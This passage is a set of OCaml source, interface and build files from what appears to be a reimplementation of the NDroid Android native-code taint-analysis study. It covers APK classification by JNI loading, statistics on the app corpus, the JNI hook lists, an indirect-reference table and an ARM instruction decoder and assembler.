          ["Ljava/lang/System;->loadLibrary(Ljava/lang/String;)V"] *)
  native_decl_classes : string list;
      (** classes declaring [native] methods *)
}

val load_invocation_sigs : string list
(** The two signatures whose presence makes an app Type I:
    [System.loadLibrary] and [System.load]. *)

val dex_calls_load : dex -> bool
(** Scan the dex's method references for either load invocation. *)

type t = {
  app_id : int;
  package : string;
  category : category;
  main_dex : dex option;  (** [None] for pure-native apps *)
  embedded_dexes : dex list;  (** compressed dex files inside the APK *)
  libs : native_lib list;
  downloads : int;
}

val admob_classes : string list
(** The eight AdMob-plugin classes the study found in 48.1% of the Type I
    apps that bundle no libraries. *)

val popular_libs : (string * category option) list
(** Well-known native libraries and the category they are typical of:
    game engines (Unity, libgdx, Box2D, Cocos2D), media codecs, and the
    NDK/system libraries apps bundle for compatibility. *)
