type category =
  | Game
  | Music_and_audio
  | Personalization
  | Communication
  | Entertainment
  | Tools
  | Books
  | Business
  | Education
  | Finance
  | Health
  | Lifestyle
  | Media_video
  | News
  | Photography
  | Productivity
  | Shopping
  | Social
  | Sports
  | Travel
  | Weather

let category_name = function
  | Game -> "Game"
  | Music_and_audio -> "Music And Audio"
  | Personalization -> "Personalization"
  | Communication -> "Communication"
  | Entertainment -> "Entertainment"
  | Tools -> "Tools"
  | Books -> "Books"
  | Business -> "Business"
  | Education -> "Education"
  | Finance -> "Finance"
  | Health -> "Health"
  | Lifestyle -> "Lifestyle"
  | Media_video -> "Media & Video"
  | News -> "News"
  | Photography -> "Photography"
  | Productivity -> "Productivity"
  | Shopping -> "Shopping"
  | Social -> "Social"
  | Sports -> "Sports"
  | Travel -> "Travel"
  | Weather -> "Weather"

let all_categories =
  [ Game; Music_and_audio; Personalization; Communication; Entertainment; Tools;
    Books; Business; Education; Finance; Health; Lifestyle; Media_video; News;
    Photography; Productivity; Shopping; Social; Sports; Travel; Weather ]

type abi = Armeabi | X86 | Mips
type native_lib = { lib_name : string; abi : abi }

type dex = { method_refs : string list; native_decl_classes : string list }

let load_invocation_sigs =
  [ "Ljava/lang/System;->loadLibrary(Ljava/lang/String;)V";
    "Ljava/lang/System;->load(Ljava/lang/String;)V" ]

let dex_calls_load dex =
  List.exists (fun r -> List.mem r load_invocation_sigs) dex.method_refs

type t = {
  app_id : int;
  package : string;
  category : category;
  main_dex : dex option;
  embedded_dexes : dex list;
  libs : native_lib list;
  downloads : int;
}

let admob_classes =
  [ "Lcom/google/ads/AdActivity;"; "Lcom/google/ads/AdMobAdapter;";
    "Lcom/google/ads/AdRequest;"; "Lcom/google/ads/AdSize;";
    "Lcom/google/ads/AdView;"; "Lcom/google/ads/InterstitialAd;";
    "Lcom/google/ads/mediation/MediationAdapter;";
    "Lcom/google/ads/util/AdUtil;" ]

let popular_libs =
  [ ("libunity.so", Some Game);
    ("libmono.so", Some Game);
    ("libgdx.so", Some Game);
    ("libgdx-box2d.so", Some Game);
    ("libbox2d.so", Some Game);
    ("libcocos2dcpp.so", Some Game);
    ("libandengine.so", Some Game);
    ("libopenal.so", Some Music_and_audio);
    ("libmp3lame.so", Some Music_and_audio);
    ("libffmpeg.so", Some Media_video);
    ("libvlc.so", Some Media_video);
    ("libcrypto_client.so", Some Communication);
    ("libvoip.so", Some Communication);
    ("libstlport_shared.so", None);
    ("libcore.so", None);
    ("libstagefright_froyo.so", None);
    ("libcutils.so", None);
    ("libsqlite_jni.so", None);
    ("libpng_ndk.so", None);
    ("libjpeg_turbo.so", None) ]
