module Dexfile = Ndroid_dalvik.Dexfile
module Classes = Ndroid_dalvik.Classes
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Sofile = Ndroid_arm.Sofile

type t = { apk_package : string; entries : (string * string) list }

(* turn a symbolic method-reference signature, e.g.
   "Ljava/lang/System;->loadLibrary(Ljava/lang/String;)V", into an invoke *)
let invoke_of_sig signature regs =
  match String.index_opt signature '-' with
  | Some i when i + 1 < String.length signature && signature.[i + 1] = '>' ->
    let cls = String.sub signature 0 i in
    let rest = String.sub signature (i + 2) (String.length signature - i - 2) in
    let name =
      match String.index_opt rest '(' with
      | Some j -> String.sub rest 0 j
      | None -> rest
    in
    B.Invoke (B.Static, { B.m_class = cls; m_name = name }, regs)
  | _ -> B.Nop

(* a class whose onCreate body performs the dex's method references; load
   calls take a string register, the rest take none (static data — the dex
   is never executed, only scanned) *)
let main_class_of_dex package (dex : App_model.dex) =
  let cls = Printf.sprintf "L%s/Main;" (String.map (fun c -> if c = '.' then '/' else c) package) in
  let body =
    [ B.Const_string (0, "native-lib") ]
    @ List.map
        (fun signature ->
          if List.mem signature App_model.load_invocation_sigs then
            invoke_of_sig signature [ 0 ]
          else invoke_of_sig signature [])
        dex.App_model.method_refs
    @ [ B.Return_void ]
  in
  let main =
    { Classes.m_class = cls; m_name = "onCreate"; m_shorty = "V";
      m_static = true; m_registers = 4;
      m_body = Classes.Bytecode (Array.of_list body, []) }
  in
  { Classes.c_name = cls; c_super = Some "Ljava/lang/Object;"; c_fields = [];
    c_methods = [ main ] }

let native_decl_class name =
  { Classes.c_name = name; c_super = Some "Ljava/lang/Object;"; c_fields = [];
    c_methods =
      [ { Classes.m_class = name; m_name = "nativeOp"; m_shorty = "II";
          m_static = true; m_registers = 0; m_body = Classes.Native "nativeOp" } ] }

let dex_image package (dex : App_model.dex) =
  Dexfile.to_string
    (main_class_of_dex package dex
    :: List.map native_decl_class dex.App_model.native_decl_classes)

let so_image () =
  (* a minimal but genuine library: one exported function *)
  Sofile.to_string
    (Asm.assemble ~base:0x4A000000
       [ Asm.Label "JNI_OnLoad";
         Asm.I (Insn.mov 0 (Insn.Imm 4));
         Asm.I Insn.bx_lr ])

let abi_dir = function
  | App_model.Armeabi -> "armeabi"
  | App_model.X86 -> "x86"
  | App_model.Mips -> "mips"

let of_app_model (app : App_model.t) =
  let dex_entries =
    match app.App_model.main_dex with
    | Some dex -> [ ("classes.dex", dex_image app.App_model.package dex) ]
    | None -> []
  in
  let embedded =
    List.mapi
      (fun i dex ->
        (Printf.sprintf "assets/payload%d.dex" i, dex_image app.App_model.package dex))
      app.App_model.embedded_dexes
  in
  let libs =
    List.map
      (fun l ->
        (Printf.sprintf "lib/%s/%s" (abi_dir l.App_model.abi) l.App_model.lib_name,
         so_image ()))
      app.App_model.libs
  in
  { apk_package = app.App_model.package; entries = dex_entries @ embedded @ libs }

(* ---- scanning ---- *)

let insn_is_load_call = function
  | B.Invoke (_, { B.m_class = "Ljava/lang/System;"; m_name }, _) ->
    m_name = "loadLibrary" || m_name = "load"
  | _ -> false

let dex_calls_load image =
  let classes = Dexfile.of_string image in
  List.exists
    (fun (c : Classes.class_def) ->
      List.exists
        (fun (m : Classes.method_def) ->
          match m.Classes.m_body with
          | Classes.Bytecode (code, _) -> Array.exists insn_is_load_call code
          | Classes.Native _ | Classes.Intrinsic _ -> false)
        c.Classes.c_methods)
    classes

let is_dex path =
  String.length path > 4 && String.sub path (String.length path - 4) 4 = ".dex"

let is_lib path = String.length path > 4 && String.sub path 0 4 = "lib/"

let classify apk =
  let main_dex = List.assoc_opt "classes.dex" apk.entries in
  let embedded =
    List.filter (fun (p, _) -> p <> "classes.dex" && is_dex p) apk.entries
  in
  let has_libs = List.exists (fun (p, _) -> is_lib p) apk.entries in
  match main_dex with
  | None -> if has_libs then Classifier.Type_III else Classifier.Not_native
  | Some image ->
    if dex_calls_load image then Classifier.Type_I
    else if has_libs then
      Classifier.Type_II
        { loadable_via_embedded_dex =
            List.exists (fun (_, img) -> dex_calls_load img) embedded }
    else Classifier.Not_native
