open App_model

type summary = {
  total : int;
  type1 : int;
  type1_pct : float;
  type1_no_libs : int;
  type1_no_libs_admob : int;
  admob_pct_of_no_libs : float;
  type2 : int;
  type2_loadable : int;
  type3 : int;
  type3_game : int;
  type3_entertainment : int;
  category_hist : (category * int) list;
  top_libs : (string * int) list;
}

let has_admob app =
  match app.main_dex with
  | Some dex ->
    List.exists (fun c -> List.mem c admob_classes) dex.native_decl_classes
  | None -> false

let summarize apps =
  let total = ref 0 in
  let type1 = ref 0
  and type1_no_libs = ref 0
  and type1_admob = ref 0
  and type2 = ref 0
  and type2_loadable = ref 0
  and type3 = ref 0
  and type3_game = ref 0
  and type3_ent = ref 0 in
  let cat_hist = Hashtbl.create 32 in
  let lib_hist = Hashtbl.create 64 in
  let bump tbl key = Hashtbl.replace tbl key (1 + Option.value ~default:0 (Hashtbl.find_opt tbl key)) in
  Seq.iter
    (fun app ->
      incr total;
      match Classifier.classify app with
      | Classifier.Type_I ->
        incr type1;
        bump cat_hist app.category;
        List.iter (fun l -> bump lib_hist l.lib_name) app.libs;
        if app.libs = [] then begin
          incr type1_no_libs;
          if has_admob app then incr type1_admob
        end
      | Classifier.Type_II { loadable_via_embedded_dex } ->
        incr type2;
        if loadable_via_embedded_dex then incr type2_loadable
      | Classifier.Type_III ->
        incr type3;
        (match app.category with
         | Game -> incr type3_game
         | Entertainment -> incr type3_ent
         | _ -> ())
      | Classifier.Not_native -> ())
    apps;
  let sorted tbl =
    Hashtbl.fold (fun k v acc -> (k, v) :: acc) tbl []
    |> List.sort (fun (_, a) (_, b) -> compare b a)
  in
  { total = !total;
    type1 = !type1;
    type1_pct = 100.0 *. float_of_int !type1 /. float_of_int (max 1 !total);
    type1_no_libs = !type1_no_libs;
    type1_no_libs_admob = !type1_admob;
    admob_pct_of_no_libs =
      100.0 *. float_of_int !type1_admob /. float_of_int (max 1 !type1_no_libs);
    type2 = !type2;
    type2_loadable = !type2_loadable;
    type3 = !type3;
    type3_game = !type3_game;
    type3_entertainment = !type3_ent;
    category_hist = sorted cat_hist;
    top_libs = sorted lib_hist }

let fig2_distribution s =
  let t1 = float_of_int (max 1 s.type1) in
  List.map
    (fun (cat, n) -> (category_name cat, 100.0 *. float_of_int n /. t1))
    s.category_hist

let pp_summary ppf s =
  Format.fprintf ppf "apps crawled:              %d@." s.total;
  Format.fprintf ppf "Type I (use JNI):          %d (%.2f%%)@." s.type1 s.type1_pct;
  Format.fprintf ppf "  without native libs:     %d@." s.type1_no_libs;
  Format.fprintf ppf "    with AdMob classes:    %d (%.1f%%)@." s.type1_no_libs_admob
    s.admob_pct_of_no_libs;
  Format.fprintf ppf "Type II (libs, no load):   %d@." s.type2;
  Format.fprintf ppf "  loadable via hidden dex: %d@." s.type2_loadable;
  Format.fprintf ppf "Type III (pure native):    %d (%d game, %d entertainment)@."
    s.type3 s.type3_game s.type3_entertainment;
  Format.fprintf ppf "top native libraries:@.";
  List.iteri
    (fun i (lib, n) ->
      if i < 10 then Format.fprintf ppf "  %-24s %d@." lib n)
    s.top_libs

type lib_kind = Game_engine | Media | Compatibility | Other

type lib_entry = {
  le_name : string;
  le_count : int;
  le_kind : lib_kind;
  le_top_category : App_model.category;
}

let lib_kind_name = function
  | Game_engine -> "game engine"
  | Media -> "audio/video"
  | Compatibility -> "NDK/system compatibility"
  | Other -> "other"

let kind_of_lib name =
  let game = [ "libunity.so"; "libmono.so"; "libgdx.so"; "libgdx-box2d.so";
               "libbox2d.so"; "libcocos2dcpp.so"; "libandengine.so" ]
  and media = [ "libopenal.so"; "libmp3lame.so"; "libffmpeg.so"; "libvlc.so" ]
  and compat = [ "libstlport_shared.so"; "libcore.so"; "libstagefright_froyo.so";
                 "libcutils.so" ] in
  if List.mem name game then Game_engine
  else if List.mem name media then Media
  else if List.mem name compat then Compatibility
  else Other

let library_distribution apps =
  (* count bundles per (lib, category) *)
  let counts = Hashtbl.create 64 in
  Seq.iter
    (fun app ->
      List.iter
        (fun l ->
          let key = l.App_model.lib_name in
          let total, per_cat =
            match Hashtbl.find_opt counts key with
            | Some v -> v
            | None -> (0, Hashtbl.create 8)
          in
          Hashtbl.replace per_cat app.App_model.category
            (1 + Option.value ~default:0 (Hashtbl.find_opt per_cat app.App_model.category));
          Hashtbl.replace counts key (total + 1, per_cat))
        app.App_model.libs)
    apps;
  Hashtbl.fold
    (fun name (total, per_cat) acc ->
      let top_cat =
        Hashtbl.fold
          (fun cat n (best_cat, best_n) ->
            if n > best_n then (cat, n) else (best_cat, best_n))
          per_cat (App_model.Game, 0)
        |> fst
      in
      { le_name = name; le_count = total; le_kind = kind_of_lib name;
        le_top_category = top_cat }
      :: acc)
    counts []
  |> List.sort (fun a b -> compare b.le_count a.le_count)

let pp_library_distribution ppf entries =
  Format.fprintf ppf "library distribution (top %d):@."
    (min 20 (List.length entries));
  List.iteri
    (fun i e ->
      if i < 20 then
        Format.fprintf ppf "  %-26s %6d  %-26s mostly in %s@." e.le_name
          e.le_count (lib_kind_name e.le_kind)
          (App_model.category_name e.le_top_category))
    entries

let pp_fig2 ppf s =
  Format.fprintf ppf "Type I category distribution (Fig. 2):@.";
  List.iter
    (fun (name, pct) ->
      if pct >= 0.5 then
        Format.fprintf ppf "  %-18s %5.1f%%  %s@." name pct
          (String.make (int_of_float (pct +. 0.5)) '#'))
    (fig2_distribution s)
