type t = {
  by_iref : (int, int) Hashtbl.t;
  by_obj : (int, int) Hashtbl.t;
  mutable serial : int;
}

let create () = { by_iref = Hashtbl.create 64; by_obj = Hashtbl.create 64; serial = 0 }

(* References look like the local-ref values in Dalvik logs: high bit set,
   a scrambled cookie in the middle, and the low bits encoding the kind
   (0b01 = local reference). *)
let make_iref serial =
  let cookie = serial * 0x9E3779B land 0x3FFFFFF in
  0x80000000 lor (cookie lsl 4) lor 0b0101

let add table ~obj_id =
  match Hashtbl.find_opt table.by_obj obj_id with
  | Some iref -> iref
  | None ->
    let rec fresh () =
      table.serial <- table.serial + 1;
      let iref = make_iref table.serial in
      if Hashtbl.mem table.by_iref iref then fresh () else iref
    in
    let iref = fresh () in
    Hashtbl.replace table.by_iref iref obj_id;
    Hashtbl.replace table.by_obj obj_id iref;
    iref

let resolve table iref = Hashtbl.find_opt table.by_iref iref

let delete table iref =
  match Hashtbl.find_opt table.by_iref iref with
  | Some obj_id ->
    Hashtbl.remove table.by_iref iref;
    Hashtbl.remove table.by_obj obj_id
  | None -> ()

let iref_of_obj table obj_id = Hashtbl.find_opt table.by_obj obj_id
let count table = Hashtbl.length table.by_iref
let is_iref v = v land 0x80000000 <> 0 && v land 0xF = 0b0101
