type group =
  | Jni_entry
  | Jni_exit
  | Object_creation
  | Field_access
  | Exception
  | String_ops
  | Array_ops
  | Ref_management
  | Internal

let group_name = function
  | Jni_entry -> "JNI entry"
  | Jni_exit -> "JNI exit"
  | Object_creation -> "object creation"
  | Field_access -> "field access"
  | Exception -> "exception"
  | String_ops -> "string operations"
  | Array_ops -> "array operations"
  | Ref_management -> "reference management"
  | Internal -> "libdvm internal"

let jni_types =
  [ "Object"; "Boolean"; "Byte"; "Char"; "Short"; "Int"; "Long"; "Float";
    "Double"; "Void" ]

let primitive_types =
  [ "Boolean"; "Byte"; "Char"; "Short"; "Int"; "Long"; "Float"; "Double" ]

let call_method_families =
  [ "CallTypeMethod"; "CallNonvirtualTypeMethod"; "CallStaticTypeMethod";
    "CallTypeMethodV"; "CallNonvirtualTypeMethodV"; "CallStaticTypeMethodV";
    "CallTypeMethodA"; "CallNonvirtualTypeMethodA"; "CallStaticTypeMethodA" ]

let functions =
  let replace_type template ty =
    (* substitute the literal "Type" in the template *)
    let b = Buffer.create (String.length template + 4) in
    let n = String.length template in
    let rec go i =
      if i >= n then Buffer.contents b
      else if i + 4 <= n && String.sub template i 4 = "Type" then (
        Buffer.add_string b ty;
        go (i + 4))
      else (
        Buffer.add_char b template.[i];
        go (i + 1))
    in
    go 0
  in
  let call_methods =
    List.concat_map
      (fun family -> List.map (fun ty -> (replace_type family ty, Jni_exit)) jni_types)
      call_method_families
  in
  let field_access =
    List.concat_map
      (fun ty ->
        [ ("Get" ^ ty ^ "Field", Field_access);
          ("Set" ^ ty ^ "Field", Field_access);
          ("GetStatic" ^ ty ^ "Field", Field_access);
          ("SetStatic" ^ ty ^ "Field", Field_access) ])
      ("Object" :: primitive_types)
  in
  let array_ops =
    List.concat_map
      (fun ty ->
        [ ("New" ^ ty ^ "Array", Object_creation);
          ("Get" ^ ty ^ "ArrayElements", Array_ops);
          ("Release" ^ ty ^ "ArrayElements", Array_ops);
          ("Get" ^ ty ^ "ArrayRegion", Array_ops);
          ("Set" ^ ty ^ "ArrayRegion", Array_ops) ])
      primitive_types
  in
  [ ("dvmCallJNIMethod", Jni_entry);
    ("dvmCallMethod", Jni_exit);
    ("dvmCallMethodV", Jni_exit);
    ("dvmCallMethodA", Jni_exit);
    ("dvmInterpret", Jni_exit);
    ("NewObject", Object_creation);
    ("NewObjectV", Object_creation);
    ("NewObjectA", Object_creation);
    ("NewString", Object_creation);
    ("NewStringUTF", Object_creation);
    ("NewObjectArray", Object_creation);
    ("dvmAllocObject", Internal);
    ("dvmCreateStringFromUnicode", Internal);
    ("dvmCreateStringFromCstr", Internal);
    ("dvmAllocArrayByClass", Internal);
    ("dvmAllocPrimitiveArray", Internal);
    ("dvmDecodeIndirectRef", Internal);
    ("initException", Internal);
    ("ThrowNew", Exception);
    ("Throw", Exception);
    ("ExceptionOccurred", Exception);
    ("ExceptionClear", Exception);
    ("GetStringUTFChars", String_ops);
    ("ReleaseStringUTFChars", String_ops);
    ("GetStringChars", String_ops);
    ("ReleaseStringChars", String_ops);
    ("GetStringLength", String_ops);
    ("GetStringUTFLength", String_ops);
    ("GetArrayLength", Array_ops);
    ("GetObjectArrayElement", Array_ops);
    ("SetObjectArrayElement", Array_ops);
    ("FindClass", Ref_management);
    ("GetObjectClass", Ref_management);
    ("GetMethodID", Ref_management);
    ("GetStaticMethodID", Ref_management);
    ("GetFieldID", Ref_management);
    ("GetStaticFieldID", Ref_management);
    ("NewGlobalRef", Ref_management);
    ("DeleteGlobalRef", Ref_management);
    ("NewLocalRef", Ref_management);
    ("DeleteLocalRef", Ref_management) ]
  @ call_methods @ field_access @ array_ops

let group_of name = List.assoc_opt name functions
let mem name = List.mem_assoc name functions
