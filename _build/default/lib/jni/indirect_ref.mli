(** Indirect reference table.

    "Since version 4.0, Android uses indirect references in native code
    rather than direct pointers to reference objects.  When the garbage
    collector moves an object, it updates the indirect reference table with
    the object's new location" (paper, Sec. II-A).

    Native code therefore only ever sees opaque 32-bit indirect references
    (the [0xa8900025]-style values in the paper's logs); resolving one gives
    the stable heap id regardless of how many times the GC has moved the
    object.  NDroid keys its native-side object taint by indirect reference
    for exactly this reason (Sec. V-B). *)

type t

val create : unit -> t

val add : t -> obj_id:int -> int
(** Register an object and return a fresh indirect reference.  Registering
    the same object twice returns the same reference (local-ref reuse). *)

val resolve : t -> int -> int option
(** [resolve table iref] is the heap id, or [None] for a stale/foreign
    reference. *)

val delete : t -> int -> unit
(** Remove a reference (JNI [DeleteLocalRef]). *)

val iref_of_obj : t -> int -> int option
(** Reverse lookup: the reference already issued for a heap id, if any. *)

val count : t -> int

val is_iref : int -> bool
(** Quick structural check: indirect references live in the high half of
    the address space with the tag bits this table issues. *)
