lib/jni/indirect_ref.ml: Hashtbl
