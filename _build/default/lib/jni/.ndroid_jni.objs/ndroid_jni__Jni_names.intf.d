lib/jni/jni_names.mli:
