lib/jni/indirect_ref.mli:
