lib/jni/jni_names.ml: Buffer List String
