(** The JNI function surface NDroid instruments, grouped exactly as the
    paper's DVM hook engine groups them (Sec. V-B): JNI entry, JNI exit,
    object creation, field access, and exception — plus the string/array
    helpers the case studies traverse ([GetStringUTFChars] in Figs. 7-8). *)

type group =
  | Jni_entry  (** Java→native: the call bridge ([dvmCallJNIMethod]) *)
  | Jni_exit  (** native→Java: [Call*Method*] → [dvmCallMethod*] → [dvmInterpret] *)
  | Object_creation  (** [New*] and the allocation functions they wrap (Table III) *)
  | Field_access  (** [Get/Set*Field] (Table IV) *)
  | Exception  (** [ThrowNew] and its helpers *)
  | String_ops  (** [GetStringUTFChars] and friends *)
  | Array_ops  (** primitive-array element access *)
  | Ref_management  (** local/global reference bookkeeping *)
  | Internal  (** libdvm internals reached only through other JNI functions *)

val group_name : group -> string

val functions : (string * group) list
(** Every hooked function with its group.  The [Call<type>Method{,V,A}]
    families of Table II are expanded over all ten return types. *)

val group_of : string -> group option
(** Lookup by function name. *)

val call_method_families : string list
(** The 9 families of Table II: [CallTypeMethod], [CallNonvirtualTypeMethod],
    [CallStaticTypeMethod] and their V/A variants, with [Type] left as a
    placeholder. *)

val mem : string -> bool
