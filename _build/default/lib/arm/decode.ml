(* Binary decoder: 32-bit ARM words back to {!Insn.t}.

   Returns [None] for encodings outside the supported subset; NDroid's
   instruction tracer skips such instructions after logging, matching the
   paper's "currently supports arithmetic and copy operations" scoping. *)

let bits w hi lo = (w lsr lo) land ((1 lsl (hi - lo + 1)) - 1)
let flag w b = (w lsr b) land 1 = 1

let sign_extend v width =
  let m = 1 lsl (width - 1) in
  (v lxor m) - m

let decode_op2 w =
  if flag w 25 then
    let rot = bits w 11 8 and imm8 = bits w 7 0 in
    let amount = rot * 2 in
    let v =
      if amount = 0 then imm8
      else ((imm8 lsr amount) lor (imm8 lsl (32 - amount))) land 0xFFFFFFFF
    in
    Some (Insn.Imm v)
  else
    let rm = bits w 3 0 in
    let kind = Insn.shift_of_code (bits w 6 5) in
    if flag w 4 then
      if flag w 7 then None (* multiply/extra-load space, not a shift *)
      else Some (Insn.Reg_shift_reg (rm, kind, bits w 11 8))
    else
      let amount = bits w 11 7 in
      if amount = 0 && kind = Insn.LSL then Some (Insn.Reg rm)
      else Some (Insn.Reg_shift_imm (rm, kind, amount))

let decode_vfp w cond =
  let coproc = bits w 11 8 in
  if coproc <> 0b1010 && coproc <> 0b1011 then None
  else
    let prec = if flag w 8 then Insn.F64 else Insn.F32 in
    let vfp_reg prec v4 b =
      match prec with Insn.F32 -> (v4 lsl 1) lor b | Insn.F64 -> v4
    in
    let d = if flag w 22 then 1 else 0
    and n = if flag w 7 then 1 else 0
    and m = if flag w 5 then 1 else 0 in
    let vd4 = bits w 15 12 and vn4 = bits w 19 16 and vm4 = bits w 3 0 in
    if bits w 27 24 = 0b1101 then
      (* VLDR / VSTR *)
      let words = bits w 7 0 in
      let offset = (if flag w 23 then words else -words) * 4 in
      Some
        (Insn.Vmem
           { cond; load = flag w 20; prec; vd = vfp_reg prec vd4 d;
             rn = bits w 19 16; offset })
    else if bits w 27 21 = 0b1110000 && flag w 4 && coproc = 0b1010 then
      Some
        (Insn.Vmov_core
           { cond; to_core = flag w 20; rt = bits w 15 12; sn = (vn4 lsl 1) lor n })
    else if bits w 27 24 = 0b1110 && not (flag w 4) then
      let op21_20 = bits w 21 20 in
      if not (flag w 23) then
        (* 11100x: VADD/VSUB/VMUL *)
        match (op21_20, flag w 6) with
        | 0b11, false ->
          Some
            (Insn.Vdp
               { cond; op = Insn.VADD; prec; vd = vfp_reg prec vd4 d;
                 vn = vfp_reg prec vn4 n; vm = vfp_reg prec vm4 m })
        | 0b11, true ->
          Some
            (Insn.Vdp
               { cond; op = Insn.VSUB; prec; vd = vfp_reg prec vd4 d;
                 vn = vfp_reg prec vn4 n; vm = vfp_reg prec vm4 m })
        | 0b10, false ->
          Some
            (Insn.Vdp
               { cond; op = Insn.VMUL; prec; vd = vfp_reg prec vd4 d;
                 vn = vfp_reg prec vn4 n; vm = vfp_reg prec vm4 m })
        | _ -> None
      else if op21_20 = 0b00 then
        Some
          (Insn.Vdp
             { cond; op = Insn.VDIV; prec; vd = vfp_reg prec vd4 d;
               vn = vfp_reg prec vn4 n; vm = vfp_reg prec vm4 m })
      else if op21_20 = 0b11 then
        (* extension space: VCVT *)
        let opc2 = bits w 19 16 in
        match opc2 with
        | 0b0111 ->
          if prec = Insn.F64 then
            (* sz=1: F32 result from F64 source *)
            Some (Insn.Vcvt { cond; to_double = false; vd = (vd4 lsl 1) lor d;
                              vm = vm4 })
          else
            Some (Insn.Vcvt { cond; to_double = true; vd = vd4;
                              vm = (vm4 lsl 1) lor m })
        | 0b1000 ->
          Some
            (Insn.Vcvt_int
               { cond; to_float = true; prec; vd = vfp_reg prec vd4 d;
                 vm = (vm4 lsl 1) lor m })
        | 0b1101 ->
          Some
            (Insn.Vcvt_int
               { cond; to_float = false; prec; vd = (vd4 lsl 1) lor d;
                 vm = vfp_reg prec vm4 m })
        | _ -> None
      else None
    else None

let decode w =
  let w = w land 0xFFFFFFFF in
  match Insn.cond_of_code (bits w 31 28) with
  | None -> None
  | Some cond -> (
    match bits w 27 26 with
    | 0b00 ->
      if w land 0x0FFFFFD0 = 0x012FFF10 then
        Some (Insn.Bx { cond; link = flag w 5; rm = bits w 3 0 })
      else if w land 0x0FFF0FF0 = 0x016F0F10 then
        Some (Insn.Clz { cond; rd = bits w 15 12; rm = bits w 3 0 })
      else if (not (flag w 25)) && flag w 7 && flag w 4 then
        (* multiply or extra load/store *)
        let sh = bits w 6 5 in
        if sh = 0b00 then
          if bits w 27 22 = 0 then
            let s = flag w 20
            and rd = bits w 19 16
            and rn = bits w 15 12
            and rs = bits w 11 8
            and rm = bits w 3 0 in
            if flag w 21 then Some (Insn.Mla { cond; s; rd; rm; rs; rn })
            else if rn = 0 then Some (Insn.Mul { cond; s; rd; rm; rs })
            else None
          else if bits w 27 24 = 0 && flag w 23 && not (flag w 21) then
            (* long multiply without accumulate *)
            Some
              (Insn.Mull
                 { cond; signed = flag w 22; s = flag w 20; rdhi = bits w 19 16;
                   rdlo = bits w 15 12; rs = bits w 11 8; rm = bits w 3 0 })
          else None
        else if sh = 0b01 then
          (* halfword transfer *)
          let offset =
            if flag w 22 then
              let v = (bits w 11 8 lsl 4) lor bits w 3 0 in
              Insn.Off_imm (if flag w 23 then v else -v)
            else Insn.Off_reg (flag w 23, bits w 3 0, Insn.LSL, 0)
          in
          Some
            (Insn.Mem
               { cond; load = flag w 20; width = Insn.Half; rd = bits w 15 12;
                 rn = bits w 19 16; offset; pre = flag w 24; writeback = flag w 21 })
        else None
      else
        let op = Insn.dp_of_code (bits w 24 21) in
        let s = flag w 20 in
        if Insn.is_test_op op && not s then None
        else (
          match decode_op2 w with
          | None -> None
          | Some op2 ->
            Some
              (Insn.Dp { cond; op; s; rd = bits w 15 12; rn = bits w 19 16; op2 }))
    | 0b01 ->
      if flag w 25 && flag w 4 then None (* media space *)
      else
        let offset =
          if flag w 25 then
            let rm = bits w 3 0
            and kind = Insn.shift_of_code (bits w 6 5)
            and amount = bits w 11 7 in
            Insn.Off_reg (flag w 23, rm, kind, amount)
          else
            let v = bits w 11 0 in
            Insn.Off_imm (if flag w 23 then v else -v)
        in
        Some
          (Insn.Mem
             { cond; load = flag w 20;
               width = (if flag w 22 then Insn.Byte else Insn.Word);
               rd = bits w 15 12; rn = bits w 19 16; offset; pre = flag w 24;
               writeback = flag w 21 })
    | 0b10 ->
      if not (flag w 25) then
        (* block transfer: 100 P U S W L *)
        if flag w 22 then None (* S bit (user-mode regs) unsupported *)
        else
          let mode =
            match (flag w 24, flag w 23) with
            | false, true -> Insn.IA
            | true, true -> Insn.IB
            | false, false -> Insn.DA
            | true, false -> Insn.DB
          in
          let regs = bits w 15 0 in
          if regs = 0 then None
          else
            Some
              (Insn.Block
                 { cond; load = flag w 20; rn = bits w 19 16; mode;
                   writeback = flag w 21; regs })
      else
        Some
          (Insn.B { cond; link = flag w 24; offset = sign_extend (bits w 23 0) 24 })
    | _ -> (
      (* 0b11: coprocessor / SVC space *)
      match bits w 27 24 with
      | 0b1111 -> Some (Insn.Svc { cond; imm = bits w 23 0 })
      | 0b1101 | 0b1110 -> decode_vfp w cond
      | _ -> None))
