(** A shared-library container for assembled programs.

    On Android the app's native code ships as ELF [.so] files inside the
    APK; here an assembled {!Asm.program} serializes to a small ELF-like
    container — magic, mode, base address, code image, symbol table — that
    can sit in the virtual filesystem and be loaded back bit-for-bit.  This
    is what a Type II app's "bundled library" physically is in our corpus
    story, and what [System.loadLibrary] conceptually maps in. *)

exception Bad_sofile of string

val to_string : Asm.program -> string
(** Serialize. *)

val of_string : string -> Asm.program
(** Parse. @raise Bad_sofile on a corrupt or truncated image. *)

val magic : string
(** The 4-byte container magic. *)
