type item =
  | I of Insn.t
  | Label of string
  | Br of Insn.cond * string
  | Bl of string
  | Call of string
  | Li of int * int
  | La of int * string
  | Word of int
  | Asciz of string
  | Align4

type program = {
  p_base : int;
  p_code : Bytes.t;
  p_mode : Cpu.mode;
  p_symbols : (string, int) Hashtbl.t;
}

exception Asm_error of string

let err fmt = Format.kasprintf (fun s -> raise (Asm_error s)) fmt

(* Expansion of [Li (rd, imm)]: byte-by-byte MOV + ORR in ARM; a shift-and-add
   chain in Thumb.  Fixed instruction counts keep layout deterministic. *)
let li_arm rd imm =
  let b0 = imm land 0xFF
  and b1 = (imm lsr 8) land 0xFF
  and b2 = (imm lsr 16) land 0xFF
  and b3 = (imm lsr 24) land 0xFF in
  [ Insn.mov rd (Insn.Imm b0);
    Insn.orr rd rd (Insn.Imm (b1 lsl 8));
    Insn.orr rd rd (Insn.Imm (b2 lsl 16));
    Insn.orr rd rd (Insn.Imm (b3 lsl 24)) ]

let li_thumb rd imm =
  let b0 = imm land 0xFF
  and b1 = (imm lsr 8) land 0xFF
  and b2 = (imm lsr 16) land 0xFF
  and b3 = (imm lsr 24) land 0xFF in
  [ Insn.movs rd (Insn.Imm b3);
    Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = true; rd; rn = 0;
              op2 = Insn.Reg_shift_imm (rd, Insn.LSL, 8) };
    Insn.adds rd rd (Insn.Imm b2);
    Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = true; rd; rn = 0;
              op2 = Insn.Reg_shift_imm (rd, Insn.LSL, 8) };
    Insn.adds rd rd (Insn.Imm b1);
